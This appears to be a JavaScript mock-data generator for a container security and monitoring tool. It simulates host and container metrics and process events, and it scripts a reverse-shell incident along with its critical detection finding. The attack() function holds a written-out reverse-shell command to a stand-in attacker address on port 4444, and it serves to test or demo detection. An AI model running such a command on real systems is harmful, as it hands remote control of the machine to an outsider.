// The machine that the mock tells of: a pure function of time, so that graphs, tables and events
// agree with each other and every run shows the same.
import { addContainer, addMachine, addOther } from './machine.mjs';

const started = Date.now() - 9 * 60_000;
export const startedMs = started;
export const hostName = 'garnet';
const noise = (seed, t) => {
  const x = Math.sin(seed * 127.1 + Math.floor(t) * 311.7) * 43758.5453;
  return x - Math.floor(x);
};
/** Smooth noise between 0 and 1. */
export function wave(seed, t, period) {
  const x = t / period;
  const f = x - Math.floor(x);
  const s = f * f * (3 - 2 * f);
  return noise(seed, Math.floor(x)) * (1 - s) + noise(seed, Math.floor(x) + 1) * s;
}
const hex = (seed, length) =>
  Array.from({ length }, (_, i) => Math.floor(noise(seed, i) * 16).toString(16)).join('');
const MiB = 1024 * 1024;

const named = [
  ['checkout', 'shop', 'registry.example/shop/checkout:4.2.1', 0.62, 412, 512, 0, 0],
  ['cart', 'shop', 'registry.example/shop/cart:2.8.0', 0.18, 96, 256, 0, 0],
  ['search', 'shop', 'registry.example/shop/search:1.14.3', 1.35, 980, 1024, 2, 0],
  ['postgres', 'data', 'docker.io/library/postgres:17', 0.44, 2210, 4096, 0, 0],
  ['redis', 'data', 'docker.io/library/redis:7.4', 0.06, 48, 128, 0, 0],
  ['worker', 'jobs', 'registry.example/jobs/worker:0.9.12', 0.91, 310, 512, 0, 3],
  ['mailer', 'jobs', 'registry.example/jobs/mailer:0.9.12', 0.02, 61, 0, 0, 0],
  ['gateway', 'edge', 'docker.io/library/caddy:2.9', 0.21, 74, 256, 0, 0],
  ['build-runner', '', 'registry.example/ci/runner:11', 0.3, 520, 2048, 0, 0],
  ['debug-shell', '', 'docker.io/library/busybox:1.36', 0.004, 3, 0, 0, 0],
];

export function makeContainers(count) {
  return Array.from({ length: count }, (_, i) => {
    const [name, namespace, image, cpu, memory, limit, oom, restarts] = named[i] ?? [
      `service-${String(i).padStart(2, '0')}`,
      'apps',
      `registry.example/apps/service:${i}`,
      0.02 + noise(7, i) * 0.1,
      40 + noise(9, i) * 160,
      256,
      0,
      0,
    ];
    const id = hex(i + 1, 64);
    return {
      name,
      namespace,
      pod: namespace ? `${name}-${hex(i + 40, 5)}` : '',
      image,
      id,
      cgroup: `/system.slice/cri-containerd-${id}.scope`,
      cpu,
      memory: memory * MiB,
      limit: limit * MiB,
      oom,
      restarts,
      start: started / 1000 - 3600 * (2 + i * 3.7),
      seed: i + 11,
    };
  });
}

export function makeStore(containers) {
  const series = [];
  const host = { job: 'node-exporter', instance: hostName };
  /** Nothing was seen before the start, nor in a minute when nothing was collected. */
  const known = (t) => t >= started / 1000 - 3000 && !(t > started / 1000 + 60 && t < started / 1000 + 118);
  const add = (name, labels, level) =>
    series.push({ labels: { __name__: name, ...labels }, at: (t) => (known(t) ? level(t) : null) });
  const counter = (name, labels, rate, extra = {}) =>
    series.push({
      labels: { __name__: name, ...labels },
      at: (t) => (known(t) ? rate(0) * (t % 1e7) : null),
      rate,
      ...extra,
    });

  const busy = (t) => 0.24 + 0.3 * wave(1, t, 140) + 0.1 * wave(2, t, 17);
  const modes = {
    user: (t) => busy(t) * 0.66,
    system: (t) => busy(t) * 0.27,
    iowait: (t) => 0.015 + 0.09 * Math.max(0, wave(3, t, 90) - 0.55),
    softirq: (t) => 0.006 + 0.004 * wave(4, t, 30),
    irq: () => 0,
    nice: () => 0,
    steal: () => 0,
  };
  for (let cpu = 0; cpu < 8; cpu += 1) {
    for (const [mode, of] of Object.entries(modes))
      counter('node_cpu_seconds_total', { ...host, cpu: String(cpu), mode }, (t) => of(t + cpu * 7));
    counter('node_cpu_seconds_total', { ...host, cpu: String(cpu), mode: 'idle' }, (t) =>
      Math.max(0, 1 - Object.values(modes).reduce((s, f) => s + f(t + cpu * 7), 0)),
    );
  }
  add('node_load1', host, (t) => 2.1 + 3 * wave(1, t, 140));
  add('node_load5', host, (t) => 2.4 + 2 * wave(1, t, 400));
  add('node_load15', host, (t) => 2.6 + wave(1, t, 900));
  add('node_memory_MemTotal_bytes', host, () => 33_567_895_552);
  add('node_memory_MemAvailable_bytes', host, (t) => 33_567_895_552 * (0.42 - 0.12 * wave(5, t, 300)));
  counter('node_pressure_cpu_waiting_seconds_total', host, (t) => 0.03 * wave(6, t, 50));
  counter(
    'node_pressure_memory_waiting_seconds_total',
    host,
    (t) => 0.01 * Math.max(0, wave(7, t, 80) - 0.5),
  );
  counter('node_pressure_io_waiting_seconds_total', host, (t) => 0.08 * Math.max(0, wave(3, t, 90) - 0.4));
  for (const [device, mountpoint, size, used] of [
    ['/dev/nvme0n1p2', '/', 250e9, 0.61],
    ['/dev/nvme1n1', '/var/lib/containerd', 500e9, 0.873],
    ['/dev/nvme0n1p1', '/boot', 1e9, 0.22],
  ]) {
    const labels = { ...host, device, mountpoint, fstype: 'ext4' };
    add('node_filesystem_size_bytes', labels, () => size);
    add('node_filesystem_avail_bytes', labels, (t) => size * (1 - used) - ((t / 60) % 60) * 1e6);
  }
  for (const device of ['nvme0n1', 'nvme1n1']) {
    counter('node_disk_read_bytes_total', { ...host, device }, (t) => 9e6 * wave(8, t, 40) ** 2);
    counter('node_disk_written_bytes_total', { ...host, device }, (t) => 2.4e7 * wave(9, t, 60) ** 2 + 4e5);
  }
  counter(
    'node_network_receive_bytes_total',
    { ...host, device: 'eth0' },
    (t) => 3.1e6 + 6e6 * wave(10, t, 70),
  );
  counter(
    'node_network_transmit_bytes_total',
    { ...host, device: 'eth0' },
    (t) => 1.4e6 + 3e6 * wave(12, t, 55),
  );
  counter('node_network_receive_bytes_total', { ...host, device: 'lo' }, () => 1e5);
  addMachine({ add, counter, wave, host, started });
  addOther({ add, counter, wave, started });

  for (const c of containers) {
    const labels = {
      job: 'kubelet',
      metrics_path: '/metrics/cadvisor',
      instance: hostName,
      id: c.cgroup,
      name: c.id,
      image: c.image,
      pod: c.pod,
      namespace: c.namespace,
      container: c.name,
    };
    counter('container_cpu_usage_seconds_total', labels, (t) => c.cpu * (0.45 + 1.1 * wave(c.seed, t, 45)));
    const memory = (t) =>
      Math.min(c.limit ? c.limit * 0.985 : Infinity, c.memory * (0.97 + 0.06 * wave(c.seed + 3, t, 200)));
    add('container_memory_working_set_bytes', labels, memory);
    add('container_memory_usage_bytes', labels, (t) => memory(t) * 1.2);
    add('container_spec_memory_limit_bytes', labels, () => c.limit);
    counter(
      'container_network_receive_bytes_total',
      { ...labels, interface: 'eth0' },
      (t) => c.cpu * 9e5 * wave(c.seed + 5, t, 30),
    );
    counter(
      'container_network_transmit_bytes_total',
      { ...labels, interface: 'eth0' },
      (t) => c.cpu * 5e5 * wave(c.seed + 6, t, 30),
    );
    add('container_processes', labels, () => 1 + Math.round(c.cpu * 14));
    counter('container_oom_events_total', labels, () => 0);
    const killed = started / 1000 + 5 * 60 + 9;
    series.at(-1).at = (t) => (known(t) ? Math.max(0, c.oom - (t < killed ? 1 : 0)) : null);
    add('container_start_time_seconds', labels, () => c.start);
    series.at(-1).changes = c.restarts;
    addContainer({ add, counter, wave, memory }, c, labels);
  }
  add('up', host, () => 1);
  return {
    series,
    select(matchers) {
      return series.filter(({ labels }) =>
        matchers.every(({ name, op, value }) => {
          const have = labels[name] ?? '';
          if (op === '=') return have === value;
          if (op === '!=') return have !== value;
          return new RegExp(`^(?:${value})$`).test(have) === (op === '=~');
        }),
      );
    },
  };
}

const commands = [
  ['node', '/usr/local/bin/node', 'node server.js --port 8080'],
  ['sh', '/bin/sh', 'sh -c "curl -fsS http://127.0.0.1:8080/healthz || exit 1"'],
  ['curl', '/usr/bin/curl', 'curl -fsS http://127.0.0.1:8080/healthz'],
  ['pg_isready', '/usr/lib/postgresql/17/bin/pg_isready', 'pg_isready -U shop -d shop'],
  ['python3', '/usr/bin/python3', 'python3 -m jobs.worker --queue default'],
  ['cp', '/bin/cp', 'cp -a /srv/upload/2026/11/invoice-004711.pdf /srv/archive/'],
];
const kinds = ['exec', 'exec', 'connection', 'exit', 'fork', 'exec', 'connection', 'exit'];

export const story = { first: 40_000, count: 10 };

/** Event number `n`; one every 1.3 s since the start, and a reverse shell among them. */
export function makeEvent(n, containers) {
  const ms = started - 3_600_000 + n * 1300;
  const c = containers[Math.floor(noise(21, n) * (containers.length + 1))];
  const [name, path, line] = commands[Math.floor(noise(22, n) * commands.length)];
  const pid = 3000 + Math.floor(noise(23, n) * 28_000);
  const kind = kinds[n % kinds.length];
  const base = of(n, ms, kind, c, { pid, parent: 2200 + (c?.seed ?? 0), name, path, line });
  if (kind === 'connection') {
    const inbound = noise(25, n) > 0.6;
    Object.assign(base, {
      'network.transport': 'tcp',
      'vedette.network.direction': inbound ? 'inbound' : 'outbound',
      'network.local.address': `10.42.0.${10 + (c?.seed ?? 1)}`,
      'network.local.port': inbound ? 8080 : 40_000 + (n % 20_000),
      'network.peer.address': noise(26, n) > 0.9 ? '2001:db8:17::5' : `10.42.0.${10 + (n % 40)}`,
      'network.peer.port': inbound ? 40_000 + (n % 20_000) : [5432, 6379, 443][n % 3],
    });
  }
  if (kind === 'exec') base['vedette.streams'] = ['other', 'pipe 81231', 'pipe 81232'];
  if (kind === 'exit')
    Object.assign(base, { 'process.exit.code': noise(27, n) > 0.92 ? 1 : 0, 'vedette.exit.signal': false });
  if (kind === 'fork')
    Object.assign(base, { 'vedette.child.pid': pid + 1, 'vedette.child.start_ns': String(ms) + '000001' });
  return base;
}

function of(id, ms, kind, c, p) {
  const event = {
    id: String(id),
    time_unix_nano: `${Math.floor(ms)}${String(Math.floor(noise(24, id) * 1e6)).padStart(6, '0')}`,
    kind,
    'host.name': hostName,
    'process.pid': p.pid,
    'process.start_ns': `${8_000_000 + p.pid}000111`,
    'process.parent_pid': p.parent,
    'process.command': p.name,
    'process.executable.path': p.path,
    'process.command_args': p.line.split(' '),
    'process.command_line': p.line,
    'process.real_user.id': 0,
    'process.ancestors': [
      {
        pid: p.parent,
        start_ns: `${8_000_000 + p.parent}000111`,
        name: 'containerd-shim',
        executable: '/usr/bin/containerd-shim-runc-v2',
      },
      { pid: 1, start_ns: '1000000', name: 'systemd', executable: '/usr/lib/systemd/systemd' },
    ],
  };
  if (c)
    Object.assign(event, {
      'container.id': c.id,
      'container.name': c.name,
      'container.image.name': c.image,
      ...(c.pod ? { 'k8s.pod.name': c.pod, 'k8s.namespace.name': c.namespace } : {}),
    });
  return event;
}

/** The reverse shell inside `debug-shell`, in the order in which it happened. */
export function attack(containers, firstId) {
  const c = containers[9] ?? containers[0];
  const ms = started + 5 * 60_000;
  const bash = { pid: 4711, parent: 4702, name: 'bash', path: '/bin/bash', line: 'bash -i' };
  const whoami = { pid: 4715, parent: 4711, name: 'id', path: '/usr/bin/id', line: 'id' };
  const peer = {
    'network.transport': 'tcp',
    'vedette.network.direction': 'outbound',
    'network.local.address': '10.42.0.20',
    'network.local.port': 51_514,
    'network.peer.address': '203.0.113.66',
    'network.peer.port': 4444,
  };
  const list = [
    of(firstId, ms, 'exec', c, {
      pid: 4702,
      parent: 2220,
      name: 'sh',
      path: '/bin/sh',
      line: 'sh -c "bash -i >& /dev/tcp/203.0.113.66/4444 0>&1"',
    }),
    Object.assign(of(firstId + 1, ms + 3, 'connection', c, bash), peer),
    Object.assign(of(firstId + 2, ms + 4, 'stream_redirect', c, bash), peer, { 'vedette.stream': 0 }),
    Object.assign(of(firstId + 3, ms + 5, 'exec', c, bash), {
      'vedette.streams': [
        'socket tcp outbound 203.0.113.66:4444',
        'socket tcp outbound 203.0.113.66:4444',
        'socket tcp outbound 203.0.113.66:4444',
      ],
      'vedette.exec.upper_layer': true,
    }),
    of(firstId + 4, ms + 4200, 'exec', c, whoami),
  ];
  const finding = {
    fingerprint: '8f1d3a0c77be4e21',
    rule: 'reverse-shell',
    severity: 'critical',
    title: 'Reverse shell: bash in debug-shell is led by 203.0.113.66',
    description:
      'The standard input and output of an interpreter lead to a remote peer: whoever sits there types commands into this container and reads their output.',
    labels: {
      alertname: 'ReverseShell',
      severity: 'critical',
      host: hostName,
      container: c.name,
      container_id: c.id.slice(0, 12),
      peer: '203.0.113.66',
    },
    first_unix_nano: list[3].time_unix_nano,
    last_unix_nano: list[4].time_unix_nano,
    count: 2,
    state: 'firing',
    ancestry: ['bash(4711)', 'sh(4702)', 'containerd-shim(2220)', 'systemd(1)'],
    evidence: [
      'bash (4711) is an interpreter and began with standard input, output and error on one TCP socket.',
      'The socket leads to 203.0.113.66:4444, opened from inside the container.',
      'The executable stands in the container’s writable layer, not in its image.',
    ],
    event_ids: [String(firstId + 1), String(firstId + 3)],
  };
  const told = of(firstId + 5, ms + 6, 'finding', c, bash);
  told.finding = finding;
  list.push(told);
  list.push(
    Object.assign(
      of(firstId + 6, ms + 9000, 'oom_kill', containers[2], {
        pid: 9120,
        parent: 2213,
        name: 'search',
        path: '/app/search',
        line: '/app/search --index /data',
      }),
      { 'vedette.count': 1 },
    ),
  );
  return { events: list, finding };
}
